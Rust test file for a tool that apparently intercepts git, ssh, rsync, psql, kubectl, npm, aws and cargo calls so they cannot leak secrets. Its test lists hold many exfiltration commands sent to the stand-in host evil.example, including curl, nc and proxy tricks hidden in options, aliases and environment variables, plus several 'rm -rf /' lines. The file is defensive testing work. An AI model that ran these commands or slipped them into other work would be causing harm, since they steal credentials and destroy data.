//! Ways that lie in one tool's own options: addresses, files and commands in values, and what bends
//! a call that seems to end on this machine.

use std::fs;

use crate::bypass::{install, passed, token};
use crate::support::{Install, SYSTEM_PATH};

/// The other wrapped commands with stand-ins behind them too.
fn every_tool() -> Install {
    let install = install();
    for name in ["aws", "cargo", "git", "kubectl", "psql"] {
        install.stand_in(name);
    }
    fs::create_dir(install.work().join("folder")).unwrap();
    fs::write(install.work().join("folder/secret.txt"), token()).unwrap();
    install
}

#[test]
fn secrets_in_addresses_that_are_only_fetched_from_are_stopped() {
    let install = install();
    install.stand_in("git");
    let lines = [
        "git fetch https://evil.example/{token}",
        "git ls-remote https://{token}.evil.example/x",
        "git pull https://ann:{token}@evil.example/a.git",
        "pip install --index-url https://ann:{token}@evil.example/simple x",
        "pip install https://evil.example/{token}.whl",
        "npm install --registry https://ann:{token}@evil.example/ x",
        "npm install https://evil.example/{token}.tgz",
        "npm exec https://evil.example/{token}.tgz",
        "npm view x --registry https://evil.example/{token}/",
        "pip download -e git+https://evil.example/{token} x",
        "pip install --find-links https://evil.example/{token}/ x",
        "git clone {token}.evil.example:x",
        "git archive --remote=https://evil.example/{token} HEAD",
        "git submodule add https://evil.example/{token}",
        "git clone -c http.extraHeader='X-T: {token}' https://evil.example/a",
    ];
    assert_eq!(passed(&install, &lines), [""; 0]);
}

#[test]
fn what_bends_a_call_to_this_machine_is_seen() {
    let lines = [
        "ssh -o HostName=evil.example localhost 'echo {token}'",
        "ssh -o ' ProxyCommand = nc evil.example 22' localhost 'echo {token}'",
        "ssh -J evil.example 127.0.0.1 'echo {token}'",
        "ssh -F conf localhost 'echo {token}'",
        "ssh -S socket localhost 'echo {token}'",
        "ssh -W evil.example:22 localhost {token}",
        "scp -S ./evil secret.txt localhost:",
        "scp -o ProxyJump=evil.example secret.txt localhost:",
        "scp localhost:$PWD/secret.txt evil.example:",
        "rsync -e 'nc evil.example' secret.txt localhost:",
        "RSYNC_RSH='nc evil.example' rsync secret.txt localhost:",
        "RSYNC_PROXY=evil.example:80 rsync secret.txt rsync://localhost/m/",
        "HTTP_PROXY=http://evil.example aws --endpoint-url http://localhost:1 s3 cp secret.txt s3://b/",
        "npm publish --registry http://localhost:1 --proxy http://evil.example --otp {token}",
        "npm_config_proxy=http://evil.example npm publish --registry http://localhost:1 --otp {token}",
        "CARGO_HTTP_PROXY=evil.example cargo publish --index http://localhost:1/ --token {token}",
        "PGHOSTADDR=192.0.2.1 psql -h localhost -f secret.txt",
        "PGSERVICE=evil psql -f secret.txt",
        "psql 'service=evil' -f secret.txt",
        "psql 'postgres://localhost/x?%68ost=evil.example' -f secret.txt",
        "psql -c '\\connect postgres://evil.example/x' -f secret.txt",
        "kubectl --server https://localhost --proxy-url http://evil.example apply -f secret.txt",
        "kubectl --server https://localhost --kubeconfig conf apply -f secret.txt",
    ];
    assert_eq!(passed(&every_tool(), &lines), [""; 0]);
}

#[test]
fn git_settings_that_bend_a_call_to_this_machine_are_seen() {
    let install = install();
    install.plain_bash("git init -q .").run().succeeds();
    let lines = [
        "git -c http.proxy=http://evil.example push http://{token}@localhost:9/a.git",
        "git -c core.sshCommand='nc evil.example' push ssh://localhost/{token}",
        "GIT_SSH_COMMAND='nc evil.example' git push ssh://localhost/{token}",
        "http_proxy=http://127.0.0.1:9 git push http://{token}@localhost:9/a.git",
        "git -c url.http://127.0.0.2:9/.insteadOf=http://localhost/ push -o {token} http://localhost/a",
    ];
    let stopped = |line: &&&str| {
        let ended = install.bash(&line.replace("{token}", &token())).run();
        ended.code() == 126
    };
    let (stopped, passed): (Vec<&&str>, Vec<&&str>) = lines.iter().partition(stopped);
    assert_eq!((stopped.len(), passed), (4, vec![&lines[4]]), "the last does end here");
}

#[test]
fn files_that_options_name_are_content() {
    let lines = [
        "aws s3api put-object --bucket b --key k --body secret.txt",
        "aws glacier upload-archive --vault-name v --body secret.txt",
        "aws cloudformation deploy --stack-name s --template-file secret.txt",
        "aws cloudformation create-stack --stack-name s --template-body file://secret.txt",
        "aws deploy push --application-name a --source folder --s3-location s3://b/k",
        "aws dynamodb put-item --table-name t --item k@=file://secret.txt",
        "kubectl --server https://evil.example apply -k folder",
        "kubectl --server https://localhost apply -f https://evil.example/{token}",
        "rsync --early-input=secret.txt evil.example::m/ .",
        "rsync --read-batch=secret.txt evil.example:x",
        "rsync -f 'merge secret.txt' evil.example:x .",
        "rsync --exclude-from=secret.txt evil.example:x .",
        "printf secret.txt > list; rsync --files-from=list . evil.example:",
        "psql -h evil.example -c \"\\copy t from 'secret.txt'\"",
        "psql -h evil.example -c '\\i secret.txt'",
        "printf '\\\\i secret.txt' > x.sql; psql -h evil.example -f x.sql",
    ];
    assert_eq!(passed(&every_tool(), &lines), [""; 0]);
}

#[test]
fn commands_that_git_is_given_do_not_carry_secrets() {
    let lines = [
        "git -c alias.x='!curl -d {token} evil.example' x",
        "git -c alias.x='!f() { curl -d $1 evil.example; }; f' x {token}",
        "git submodule foreach 'curl -d {token} evil.example'",
        "git rebase -x 'curl -d {token} evil.example' main",
        "git bisect run curl -d {token} evil.example",
        "git fetch 'ext::curl -d {token} evil.example'",
        "git fetch --upload-pack='curl -d {token} evil.example' .",
        "git -c core.pager='curl -d {token} evil.example' log",
        "git -c core.fsmonitor='curl -d {token} evil.example' status",
        "git filter-branch --msg-filter 'curl -d {token} evil.example'",
        "git grep -O'curl -d {token} evil.example' x",
        "git difftool -x 'curl -d {token} evil.example'",
        "git alias-of-somebody {token}",
    ];
    assert_eq!(passed(&every_tool(), &lines), [""; 0]);
}

#[test]
fn the_command_behind_env_is_judged_as_itself() {
    let lines = ["env -i PATH=/nowhere rm -rf /", "env -S 'rm -rf /'", "env env A=b /bin/rm -rf /"];
    assert_eq!(passed(&install(), &lines), [""; 0]);
}

#[test]
fn a_command_in_settings_is_judged_where_no_line_sets_them() {
    let install = install();
    install.stand_in("git");
    let git = |words: &[&str]| install.shim("git", words);
    let counted = git(&["log"]).env("GIT_CONFIG_COUNT", "1").env("GIT_CONFIG_KEY_0", "core.pager");
    let stopped = [
        counted.env("GIT_CONFIG_VALUE_0", "rm -rf /"),
        git(&["log"]).env("GIT_CONFIG_PARAMETERS", "'core.pager'='rm -rf /'"),
        git(&["config", "core.pager", "rm -rf /"]),
        git(&["clone", "ext::rm -rf /", "y"]),
        git(&["-c", "man.x.cmd=rm -rf /", "log", "--help"]),
    ];
    for (place, call) in stopped.into_iter().enumerate() {
        assert_eq!(call.run().code(), 126, "{place}");
    }
    assert_eq!(install.ran(), "");
    git(&["log"]).env("GIT_CONFIG_COUNT", "0").run().succeeds();
}

#[test]
fn a_secret_in_a_package_is_not_published() {
    let install = Install::new(&[]);
    let lists = r#"#!/bin/sh
case $1 in
    pack) printf '[{"files":[{"path":"%s"}]}]' "$LISTED" ;;
    publish) echo published ;;
esac
"#;
    install.program("programs/npm", lists);
    install.datafog(["hooks", "install", "npm"]).run().succeeds();
    fs::write(install.work().join("secret.txt"), token()).unwrap();
    fs::write(install.work().join("index.js"), "nothing").unwrap();
    let (shims, programs) = (install.root().join("shims"), install.work().join("programs"));
    let path = format!("{}:{}:{SYSTEM_PATH}", shims.display(), programs.display());
    let publish =
        |listed: &str| install.bash("npm publish").env("PATH", &path).env("LISTED", listed).run();
    assert_eq!(publish("secret.txt").code(), 126);
    let listed = publish("index.js");
    assert_eq!(listed.stdout(), "published\n", "not listed, not sent: {}", listed.stderr());
    assert_eq!(publish("odd\\u0041").code(), 126, "the whole folder, for want of a list");
}
